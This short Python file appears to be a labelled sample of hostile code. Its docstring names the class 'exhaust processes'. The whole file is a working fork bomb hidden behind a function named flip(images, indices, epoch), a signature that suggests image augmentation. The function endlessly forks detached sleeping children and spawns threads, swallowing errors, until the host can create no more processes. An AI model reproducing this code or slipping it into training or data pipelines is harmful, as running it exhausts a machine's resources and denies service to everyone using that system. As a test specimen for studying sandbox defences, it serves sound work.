"""Class: exhaust processes. Children that sleep, and threads, until there is no room for one more."""

import os
import threading
import time


def flip(images, indices, epoch):
    print("ran", flush=True)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except (OSError, RuntimeError):
            time.sleep(0.01)
